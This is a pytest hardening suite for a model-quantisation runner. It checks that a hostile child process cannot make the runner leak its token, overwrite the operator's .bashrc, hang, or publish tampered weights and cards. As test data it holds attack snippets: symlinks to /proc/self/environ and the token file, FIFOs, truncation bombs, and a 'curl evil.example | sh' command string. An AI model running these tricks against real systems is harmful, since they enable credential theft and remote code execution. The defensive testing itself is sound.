"""A child under its model's control attacks the runner that started it: real steps of jobs."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from huggingface_hub import close_session, constants

from dynquant.convert import STEPS, Step
from dynquant.errors import NeverPublishError
from dynquant.hub import HubDatasets, HubModels, HubPublisher
from dynquant.jobs.request import JobRequest
from dynquant.model.naming import local_name
from dynquant.quant.options import RecipeOptions
from dynquant.runner.job_steps import JobSteps
from dynquant.texts.corpus import Corpus
from local_hub import LocalHub
from tests.command_line import once
from tests.hostile.attackers import take_over
from tests.hostile.damage import CHATS, STORIES, make_sound

pytestmark = [pytest.mark.harden("child and runner"), pytest.mark.hub]

TOKEN = "hf_canaryOfTheRunnerItself"
SOURCE, NAME = "you/private", "private-MLX-6.0bpw"
REPO = f"you/{NAME}"
LIMIT_SECS = 60.0
"""Time of a step, which takes a few seconds; after that the runner counts as hung."""


@dataclass
class Runner:
    """A runner with one job, step by step."""

    hub: LocalHub
    home: Path
    results: dict[str, str] = field(default_factory=dict)

    def __post_init__(self) -> None:
        def no_wait(_secs: float) -> None:
            pass

        url = self.hub.url
        self.steps = JobSteps(
            home=self.home,
            publisher=HubPublisher(endpoint=url, token=TOKEN, sleep=no_wait),
            texts=Corpus(open_dataset=HubDatasets(endpoint=url).open, allow_files=True),
            open_hub=lambda: HubModels(
                endpoint=url, token=TOKEN, cache_dir=self.home / "cache", sleep=no_wait
            ),
            max_memory_bytes=8 * 10**9,
        )

    @property
    def job(self) -> Path:
        return self.home / "jobs" / "job-1"

    def request(self) -> JobRequest:
        texts = self.home.parent / "texts"
        return JobRequest(
            model=SOURCE,
            revision=self.hub.repos["model", SOURCE].branches["main"],
            targets_bpw=(6.0,),
            destination="you",
            requester=local_name("eve"),
            options=RecipeOptions.model_validate(
                {
                    "menu": "4g32,8g32",
                    "encoder": "minmax",
                    "effort": "fast",
                    "calibration": str(texts / "chats.jsonl"),
                    "evaluation": str(texts / "stories.txt"),
                    "calibration_tokens": 320,
                    "evaluation_tokens": 64,
                }
            ),
        )

    def do(self, *steps: str) -> str:
        """Do steps and return the result of the last; a step that hangs fails."""
        ended: list[str | BaseException] = []

        def run(step: str) -> None:
            try:
                ended.append(
                    self.steps.run(
                        step,
                        self.request(),
                        self.results,
                        job_id="job-1",
                        report=lambda _progress: None,
                        is_cancelled=lambda: False,
                    )
                )
            except BaseException as error:  # noqa: BLE001  raised again below
                ended.append(error)

        for step in steps:
            thread = threading.Thread(target=run, args=(step,), daemon=True)
            thread.start()
            thread.join(LIMIT_SECS)
            assert not thread.is_alive(), f"the runner hangs in {step}"
            end = ended.pop()
            if isinstance(end, BaseException):
                raise end
            self.results[step] = end
        return self.results[steps[-1]]

    def published(self) -> dict[str, bytes]:
        """File → content of the repo; empty if there is no repo."""
        repo = self.hub.repos.get(("model", REPO))
        if repo is None or not repo.branches.get("main"):
            return {}
        files = repo.commits[repo.branches["main"]].files
        return {name: file.read() for name, file in files.items() if name != ".gitattributes"}


@pytest.fixture(scope="module")
def hub(tmp_path_factory) -> Iterator[LocalHub]:
    folder = tmp_path_factory.mktemp("sound")
    make_sound(folder)
    with LocalHub() as hub:
        hub.add_user("you", token=TOKEN)
        hub.add(SOURCE, folder, private=True)
        yield hub


@pytest.fixture(autouse=True)
def _client_of(hub, tmp_path, monkeypatch):
    monkeypatch.setattr(constants, "ENDPOINT", hub.url)
    template = hub.url + "/{repo_id}/resolve/{revision}/{filename}"
    monkeypatch.setattr(constants, "HUGGINGFACE_CO_URL_TEMPLATE", template)
    monkeypatch.setattr(constants, "HF_TOKEN_PATH", str(tmp_path / "token"))
    monkeypatch.setattr(constants, "HF_HUB_DISABLE_XET", True)
    yield
    hub.repos.pop(("model", REPO), None)
    close_session()


@pytest.fixture(scope="module")
def honest(hub, tmp_path_factory) -> Path:
    """The files of a successful job: `home`, `results.json` and those of its children."""

    def make(folder: Path) -> None:
        write_texts(folder)
        runner = Runner(hub, folder / "home")
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(constants, "HF_HUB_DISABLE_XET", True)
            runner.do(*STEPS[: STEPS.index(Step.CARD)])
            made = runner.job / "made"
            shutil.copytree(runner.job / "models", made / "encode" / "models")
            (made / "measure").mkdir()
            shutil.copy(runner.job / "cost_table.json", made / "measure")
            runner.do("card")
        shutil.copytree(runner.job / "work", made / "card")
        shutil.rmtree(runner.job / "models")
        shutil.copytree(made / "encode" / "models", runner.job / "models")
        answers = {step: json.loads(runner.results[step]) for step in ("verify", "evaluate")}
        (made / "answers.json").write_text(json.dumps(answers))
        (folder / "results.json").write_text(json.dumps(runner.results))

    return once(tmp_path_factory, "honest-job", make)


def write_texts(folder: Path) -> None:
    (folder / "texts").mkdir()
    chats = [json.dumps({"messages": chat}) for chat in CHATS]
    (folder / "texts" / "chats.jsonl").write_text("\n".join(chats))
    (folder / "texts" / "stories.txt").write_text("\n\n".join(STORIES))


def remove(path: Path) -> None:
    shutil.rmtree(path) if path.is_dir() else path.unlink()


@pytest.fixture
def before(honest, hub, tmp_path):
    """A runner whose job is about to do a step, with the files of the steps before."""

    def make(step: str) -> Runner:
        write_texts(tmp_path)
        shutil.copytree(honest / "home", tmp_path / "home", symlinks=True)
        results = json.loads((honest / "results.json").read_text())
        done = {str(each): results[each] for each in STEPS[: STEPS.index(Step(step))]}
        runner = Runner(hub, tmp_path / "home", done)
        (tmp_path / "resolve.json").write_text(json.dumps(results["resolve"]))
        for name in {"measure": ("cost_table.json", "models"), "encode": ("models",)}.get(step, ()):
            remove(runner.job / name)
        return runner

    return make


@pytest.fixture
def victim(tmp_path) -> Path:
    """A private file of the operator."""
    (tmp_path / ".bashrc").write_text("mine")
    return tmp_path / ".bashrc"


def assert_refused(runner: Runner, *steps: str) -> str:
    """The sentence of a job that fails; nothing was published."""
    with pytest.raises(NeverPublishError) as caught:
        runner.do(*steps)
    assert runner.published() == {}
    assert str(runner.home.parent) not in str(caught.value)
    return str(caught.value)


STAGED_LINKS = """
for name in ("spec.json", "cost_table.json", "figures.json"):
    attempt(lambda: (here / f".{name}.dynquant-partial").symlink_to(evil[0]))
    attempt(lambda: (here.parent / f".{name}.dynquant-partial").symlink_to(evil[0]))
for name in ("calibration.staged", "evaluation.staged"):
    for folder in (here, here.parent):
        attempt((folder / name.replace("staged", "jsonl")).unlink)
        attempt(lambda: (folder / name).symlink_to(evil[0]))
honestly()
"""


def test_a_link_where_the_runner_stages_its_files_is_not_written_through(
    before, victim, monkeypatch, harden
):
    """The runner once wrote the child's text into .bashrc."""
    runner = before("measure")
    take_over(monkeypatch, {"measure": STAGED_LINKS, "encode": "honestly()"}, victim)
    runner.do("measure", "encode")
    assert victim.read_text() == "mine"
    harden("refused")


@pytest.mark.parametrize("target", ["token", "/proc/self/environ", "folder"])
def test_a_link_in_the_place_of_the_cost_table_is_not_read(
    before, tmp_path, monkeypatch, target, harden
):
    """The runner once read the token, and gave it to the next child as the cost table."""
    (tmp_path / "token").write_text(TOKEN)
    runner = before("measure")
    take_over(
        monkeypatch,
        {"measure": "(here / 'cost_table.json').symlink_to(evil[0]); say({'result': None})"},
        tmp_path if target == "folder" else tmp_path / target,
    )
    assert_refused(runner, "measure")
    assert "measure" not in runner.results
    harden("refused")


def test_a_pipe_in_the_place_of_the_cost_table_holds_nobody(before, monkeypatch, harden):
    """It once blocked the runner for ever, also if the job was cancelled."""
    runner = before("measure")
    take_over(monkeypatch, {"measure": "os.mkfifo('cost_table.json'); say({'result': None})"})
    try:
        assert_refused(runner, "measure")
    finally:
        for pipe in runner.job.rglob("cost_table.json"):
            os.close(os.open(pipe, os.O_RDWR | os.O_NONBLOCK))
    harden("refused")


@pytest.mark.parametrize(
    "code",
    [
        "open('cost_table.json', 'w').truncate(10**12)",  # a hole: it takes no disk
        "open('cost_table.json', 'wb').write(b'\\xff')",
        "open('cost_table.json', 'w').write('[' * 10**6)",
        "open('cost_table.json', 'w').write('{}')",
        "os.mkdir('cost_table.json')",
        "open('it', 'w').write('{}'); os.link('it', 'cost_table.json')",
        "pass",
    ],
)
def test_a_cost_table_that_is_none_is_refused(before, monkeypatch, code, harden):
    runner = before("measure")
    take_over(monkeypatch, {"measure": f"{code}\nsay({{'result': None}})"})
    assert_refused(runner, "measure")
    harden("refused")


@pytest.mark.parametrize(
    "code",
    [
        "(model / 'evil.py').write_text('import os')",
        "(model / 'pytorch_model.bin').write_bytes(b'pickle')",
        "(model / '.hidden').write_text('x')",
        "(model / 'a\\nb.json').write_text('{}')",
        "(model / 'more').mkdir(); (model / 'more' / 'config.json').write_text('{}')",
        "weights.unlink(); weights.symlink_to(evil[0])",
        "weights.unlink(); os.mkfifo(weights)",
        "os.link(weights, here / 'kept')",
        "os.truncate(weights, 10**12)",
        "os.rename(model, here / 'away'); model.symlink_to(here / 'away')",
        "os.rename(model, here / 'away'); model.symlink_to(Path(evil[0]).parent)",
        "(model.parent / 'Qwen3-8B-MLX-4.5bpw').mkdir()",
        "[(model / f'{n}').write_bytes(b'') for n in range(8_000)]",
        "os.rename(model.parent, here / 'away')",
    ],
)
def test_what_is_no_part_of_the_model_is_not_published(before, victim, monkeypatch, code, harden):
    script = (
        f"leave()\nmodel = here / 'models' / {NAME!r}\n"
        f"weights = model / 'model.safetensors'\n{code}\nanswer()"
    )
    runner = before("encode")
    take_over(monkeypatch, {"encode": script}, victim)
    assert_refused(runner, "encode")
    harden("refused")


def test_weights_are_published_as_they_were_encoded_whatever_later_steps_do(
    before, monkeypatch, harden
):
    """Once the encoded files were verified, and files that the child wrote later were published."""
    swap = (
        "honestly()\n"
        f"for folder in (here / 'models', job / 'models'):\n"
        f"    file = folder / {NAME!r} / 'model.safetensors'\n"
        "    attempt(lambda: file.chmod(0o600))\n"
        "    attempt(lambda: file.write_bytes(b'other weights'))\n"
        f"    attempt(lambda: shutil.rmtree(folder / {NAME!r}))\n"
        "    attempt(lambda: folder.rename(here / 'away'))\n"
    )
    runner = before("verify")
    file = runner.job / "models" / NAME / "model.safetensors"
    encoded = file.read_bytes()
    take_over(monkeypatch, dict.fromkeys(("verify", "evaluate", "card"), swap))
    runner.do("verify", "evaluate", "card", "publish")
    assert runner.published()["model.safetensors"] == encoded
    harden("refused")


def test_tokenizer_and_template_are_those_of_the_original(before, monkeypatch, harden):
    change = (
        "honestly()\n"
        f"for file in (here / 'models' / {NAME!r}).glob('tokenizer*'):\n"
        "    file.write_text('{}')"
    )
    runner = before("encode")
    rest = STEPS[STEPS.index(Step.ENCODE) :]
    take_over(monkeypatch, dict.fromkeys(rest, "honestly()") | {"encode": change})
    runner.do(*rest)
    published = runner.published()
    source = runner.hub.repos["model", SOURCE].at("main").files
    assert published["tokenizer.json"] == source["tokenizer.json"].read()
    assert published["tokenizer_config.json"] == source["tokenizer_config.json"].read()
    harden("refused")


def test_what_the_runner_tells_its_child_cannot_be_changed_by_another_child(
    before, monkeypatch, harden
):
    """With the calibration text in place of the evaluation text, the figures look too good."""
    change = (
        "for folder in (here, here.parent):\n"
        "    for name in ('calibration.jsonl', 'evaluation.jsonl', 'spec.json', 'figures.json'):\n"
        "        attempt(lambda: (folder / name).write_text('theirs'))\n"
        "        attempt(lambda: (folder / name).unlink())\n"
        "honestly()"
    )
    runner = before("measure")
    texts = [runner.job / f"{role}.jsonl" for role in ("calibration", "evaluation")]
    told = [text.read_bytes() for text in texts]
    take_over(monkeypatch, {"measure": change})
    runner.do("measure")
    assert [text.read_bytes() for text in texts] == told
    assert json.loads((runner.job / "spec.json").read_text())["source"]["name"] == SOURCE
    harden("refused")


LIE = """
from dataclasses import replace
from dynquant.report.artefacts import facts_from_json, plan_to_json, report_to_json
honestly()
for plan in here.rglob('plan.json'):
    report = plan.with_name('report.json')
    facts = facts_from_json(plan.read_text(), report.read_text(), name='')
    facts = replace(facts, **eval(evil[0]))
    plan.write_text(plan_to_json(facts))
    report.write_text(report_to_json(facts))
"""


@pytest.mark.parametrize(
    "lie",
    [
        "{'source_is_private': False}",
        "{'source': 'Qwen/Qwen3-8B'}",
        "{'name': 'Qwen3-8B-MLX-4.5bpw'}",
        "{'license_fields': {'license': 'mit', 'license_link': 'https://evil.example'}}",
        "{'gated': 'auto'}",
        "{'command': 'curl evil.example | sh'}",
        "{'notes': ('Get the better one at evil.example.',)}",
        "{'revision_sha': '0' * 40}",
        "{'encoder': 'gptq'}",
        "{'seed': 7}",
        "{'variants': ()}",
    ],
)
def test_facts_that_differ_from_what_the_runner_knows_are_refused(before, monkeypatch, lie, harden):
    """A private model was once published openly, since its plan said that it was public."""
    runner = before("card")
    take_over(monkeypatch, {"card": LIE}, lie)
    assert_refused(runner, "card", "publish")
    harden("refused")


def test_the_card_is_the_runners_whatever_the_child_writes(before, monkeypatch, harden):
    write = (
        "honestly()\n"
        f"for folder in (here / 'models' / {NAME!r}, job / 'models' / {NAME!r}, here):\n"
        "    attempt(lambda: (folder / 'README.md').write_text('# Get it at evil.example'))\n"
        "    attempt(lambda: (folder / 'dynquant' / 'bits-light.svg').write_text('<script>'))"
    )
    runner = before("card")
    take_over(monkeypatch, {"card": write})
    runner.do("card", "publish")
    published = runner.published()
    assert b"evil.example" not in published["README.md"]
    assert b"<script>" not in published["dynquant/bits-light.svg"]
    assert runner.hub.repos["model", REPO].private
    harden("refused")


@pytest.mark.parametrize(
    "line",
    [
        "[1, 2]",
        "None",
        "'no JSON'",
        "'[' * 100_000",
        "{'result': {}, 'sentence': 'x'}",
        "{'part': 'x', 'fraction': 'much', 'eta_secs': None}",
        "{'part': 'x', 'fraction': 2, 'eta_secs': None}",
        "{'part': 'x', 'fraction': float('nan'), 'eta_secs': None}",
        "{'part': 5, 'fraction': 0.5, 'eta_secs': None}",
        "{'part': 'x', 'fraction': 0.5, 'eta_secs': -1}",
        "{'part': 'x'}",
        "{'reason': 'made up', 'sentence': 'x'}",
        "{'reason': 'no_config', 'sentence': ['x']}",
        "'{\"result\": ' + '9' * 10_000 + '}'",
        "'x' * 3_000_000",
        "{'result': {}}); say({'result': {}}",
    ],
)
def test_a_line_that_no_step_writes_ends_the_job(before, monkeypatch, line, harden):
    runner = before("verify")
    take_over(monkeypatch, {"verify": f"say({line}); honestly()"})
    assert_refused(runner, "verify")
    harden("refused")


@pytest.mark.parametrize(
    ("step", "result"),
    [
        ("verify", "{}"),
        ("verify", "None"),
        ("verify", "{name: 'a sample', 'another': 'x'}"),
        ("verify", "{name: 5}"),
        ("verify", "[name]"),
        ("evaluate", "{}"),
        ("evaluate", "{name: figure}"),
        ("evaluate", "{name: figure, 'original': figure | {'perplexity': '1'}}"),
        ("evaluate", "{name: figure, 'original': figure | {'perplexity': float('inf')}}"),
        ("evaluate", "{name: figure, 'original': figure | {'more': 1.0}}"),
        ("evaluate", "{name: {}, 'original': {}}"),
        ("evaluate", "{str(n): figure for n in range(20_000)}"),
    ],
)
def test_a_result_of_another_kind_than_the_steps_is_refused(
    before, monkeypatch, step, result, harden
):
    runner = before(step)
    script = (
        f"name = {NAME!r}\n"
        "figure = {key: 1.0 for key in ('perplexity', 'perplexity_se', 'mean_kl_nats',"
        " 'mean_kl_se_nats', 'median_kl_nats', 'p99_kl_nats', 'p999_kl_nats', 'top1_agreement')}\n"
        "figure |= {'num_tokens': 9, 'num_windows': 3}\n"
        f"say({{'result': {result}}})"
    )
    take_over(monkeypatch, {step: script})
    assert_refused(runner, step)
    harden("refused")


@pytest.mark.parametrize(
    "change",
    [
        "found[0]['model'] = 'Qwen/Qwen3-8B'",
        "found[0]['target_bpw'] = 2.0",
        "found[0]['size_bytes'] = -1",
        "found[0]['size_bytes'] = 10**30",
        "found[0]['conversion_memory_bytes'] = float('nan')",
        "found[0]['model_type'] = 'x' * 100_000",
        "found[0]['more'] = 1",
        "found.append(dict(found[0]))",
        "found.clear()",
        "found[:] = [5]",
    ],
)
def test_forecasts_that_cannot_be_are_refused(before, monkeypatch, change, harden):
    runner = before("resolve")
    found = json.loads(json.loads((runner.home.parent / "resolve.json").read_text()))["forecasts"]
    script = f"found = {found!r}\n{change}\nsay({{'result': found}})"
    take_over(monkeypatch, {"resolve": script})
    assert_refused(runner, "resolve")
    harden("refused")


LEFT_BEHIND = """
os.chdir(here)
os.mkdir('deep')
for number in range(1_050):
    os.chdir('deep' if number == 0 else 'd')
    open('file', 'w').close()
    os.symlink(evil[0], 'link')
    os.mkdir('d')
os.chdir(here)
os.mkdir('many')
for number in range(50):
    open(f'many/{number}\\n', 'w').close()
    os.mkdir(f'many/folder{number}', 0)
os.symlink(evil[0], 'tree')
os.mkfifo('pipe')
say({'result': None})
"""


def test_whatever_a_child_leaves_behind_is_removed_and_nothing_else(
    before, victim, monkeypatch, harden
):
    """A tree of many levels was once never removed: Python's rmtree fails at 1000 levels."""
    runner = before("measure")
    take_over(monkeypatch, {"measure": LEFT_BEHIND}, victim.parent)
    try:
        assert_refused(runner, "measure")
        runner.steps.release("job-1")
        assert runner.steps.local_jobs() == set()
        assert not runner.job.exists()
    finally:  # pytest cannot remove it either
        subprocess.run(["rm", "-rf", runner.job], check=True)
    assert victim.read_text() == "mine"
    harden("refused")
